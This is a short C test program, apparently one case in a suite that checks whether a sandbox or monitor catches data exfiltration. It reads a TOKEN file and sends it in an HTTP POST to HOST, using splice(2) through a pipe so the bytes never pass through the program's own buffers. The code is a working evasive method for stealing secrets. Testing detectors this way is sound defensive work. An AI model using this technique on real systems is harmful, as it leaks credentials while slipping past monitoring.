// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: The token goes through a pipe into a socket by splice(2), never through the program.
 * Known from: splice(2) and the zero-copy proxies that use it.
 * First: open family; odd doors (splice)
 * Second: the sinkhole's record of the bytes, and fanotify
 */
#include "trick.h"

int main(void)
{
	int fd = connected(80), token = open(TOKEN, O_RDONLY), pipes[2];
	ssize_t size;

	if (pipe(pipes))
		err(1, "pipe");
	dprintf(fd, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 4096\r\n\r\n", HOST);
	size = splice(token, NULL, pipes[1], NULL, 4096, 0);
	if (size <= 0 || splice(pipes[0], NULL, fd, NULL, size, 0) != size)
		blocked();
	finish(fd);
	performed();
}
